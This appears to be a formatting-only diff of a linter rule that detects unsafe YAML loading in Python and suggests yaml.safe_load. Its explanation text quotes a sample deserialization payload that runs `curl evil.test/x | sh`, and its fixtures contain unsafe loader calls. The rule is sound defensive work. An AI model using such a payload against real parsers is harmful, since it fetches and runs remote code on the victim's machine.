@@ -11,8 +11,12 @@ from tabguard.rules.injection import last_names
 from tabguard.rules.injection._strings import is_static, raised
 
 _LOAD = {"yaml.load": "yaml.safe_load", "yaml.load_all": "yaml.safe_load_all"}
-_ALWAYS_UNSAFE = {"yaml.unsafe_load": "yaml.safe_load", "yaml.unsafe_load_all": "yaml.safe_load_all",
-                  "yaml.full_load": "yaml.safe_load", "yaml.full_load_all": "yaml.safe_load_all"}
+_ALWAYS_UNSAFE = {
+    "yaml.unsafe_load": "yaml.safe_load",
+    "yaml.unsafe_load_all": "yaml.safe_load_all",
+    "yaml.full_load": "yaml.safe_load",
+    "yaml.full_load_all": "yaml.safe_load_all",
+}
 _RUAMEL = ("ruamel.yaml.YAML", "ruamel.yaml.main.YAML")
 _UNSAFE_LOADERS = frozenset({"Loader", "CLoader", "UnsafeLoader", "CUnsafeLoader", "FullLoader", "CFullLoader"})
 
@@ -42,12 +46,14 @@ class YamlUnsafeLoad(Rule):
     call_names = last_names((*_RUAMEL, *_LOAD, *_ALWAYS_UNSAFE))
     what = "`{callee}` parses YAML with {loader}; tags such as `!!python/object/apply` are honoured."
     why = (
-        "`!!python/object/apply:os.system [\"curl evil.test/x | sh\"]` in a config upload, a CI file or "
+        '`!!python/object/apply:os.system ["curl evil.test/x | sh"]` in a config upload, a CI file or '
         "an API body runs a command while the document is parsed. `FullLoader` was meant to be safer "
         "but has had several bypasses; only `SafeLoader` builds plain data."
     )
-    how = "Use `yaml.safe_load` / `yaml.safe_load_all` (or `Loader=yaml.SafeLoader`); map the result onto your own types."
-    example = 'config = yaml.safe_load(stream)'
+    how = (
+        "Use `yaml.safe_load` / `yaml.safe_load_all` (or `Loader=yaml.SafeLoader`); map the result onto your own types."
+    )
+    example = "config = yaml.safe_load(stream)"
     fix_safety = (
         "Unsafe: `yaml.safe_load` rejects Python-specific tags; documents that relied on them now raise "
         "`yaml.constructor.ConstructorError`, which is the intent."
@@ -58,28 +64,30 @@ class YamlUnsafeLoad(Rule):
         "https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load(input)-Deprecation",
     )
     VALID = (
-        'import yaml\ndef f(s):\n    return yaml.safe_load(s)\n',
-        'import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.SafeLoader)\n',
-        'import yaml\ndef f(s):\n    return yaml.load(s, yaml.CSafeLoader)\n',
+        "import yaml\ndef f(s):\n    return yaml.safe_load(s)\n",
+        "import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.SafeLoader)\n",
+        "import yaml\ndef f(s):\n    return yaml.load(s, yaml.CSafeLoader)\n",
         'from ruamel.yaml import YAML\nyaml = YAML(typ="safe")\n',
     )
     INVALID = (
         Invalid(
-            'import yaml\ndef f(stream):\n    return yaml.load(stream)\n',
-            'import yaml\ndef f(stream):\n    return yaml.safe_load(stream)\n',
+            "import yaml\ndef f(stream):\n    return yaml.load(stream)\n",
+            "import yaml\ndef f(stream):\n    return yaml.safe_load(stream)\n",
         ),
         Invalid(
-            'import yaml\ndef f(path):\n    with open(path) as fh:\n        return list(yaml.load_all(fh, Loader=yaml.FullLoader))\n',
-            'import yaml\ndef f(path):\n    with open(path) as fh:\n        return list(yaml.safe_load_all(fh))\n',
+            "import yaml\ndef f(path):\n    with open(path) as fh:\n        return list(yaml.load_all(fh, Loader=yaml.FullLoader))\n",
+            "import yaml\ndef f(path):\n    with open(path) as fh:\n        return list(yaml.safe_load_all(fh))\n",
         ),
         Invalid(
-            'import yaml\nfrom flask import request\ndef f():\n    return yaml.unsafe_load(request.data)\n',
-            'import yaml\nfrom flask import request\ndef f():\n    return yaml.safe_load(request.data)\n',
+            "import yaml\nfrom flask import request\ndef f():\n    return yaml.unsafe_load(request.data)\n",
+            "import yaml\nfrom flask import request\ndef f():\n    return yaml.safe_load(request.data)\n",
         ),
         Invalid('from ruamel.yaml import YAML\ndef f(s):\n    return YAML(typ="unsafe").load(s)\n'),
     )
     TODO = (  # a loader class held in a variable is not resolved
-        Invalid('import yaml\ndef load(text):\n    loader = yaml.UnsafeLoader\n    return yaml.load(text, Loader=loader)\n'),
+        Invalid(
+            "import yaml\ndef load(text):\n    loader = yaml.UnsafeLoader\n    return yaml.load(text, Loader=loader)\n"
+        ),
     )
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
@@ -109,6 +117,14 @@ class YamlUnsafeLoad(Rule):
         source = ctx.taint(node.args[0])
         fix = None
         if not any(k.arg is None for k in node.keywords) and not isinstance(node.args[0], ast.Starred):
-            fix = expression_fix(ctx, node, _safe_call(safe_name), f"Fix: use {safe_name}", safe=False, imports=("yaml",))
-        ctx.report(self, node, details={"callee": callee, "loader": loader},
-                   source=source, fix=fix, severity=raised(self, source))
+            fix = expression_fix(
+                ctx, node, _safe_call(safe_name), f"Fix: use {safe_name}", safe=False, imports=("yaml",)
+            )
+        ctx.report(
+            self,
+            node,
+            details={"callee": callee, "loader": loader},
+            source=source,
+            fix=fix,
+            severity=raised(self, source),
+        )
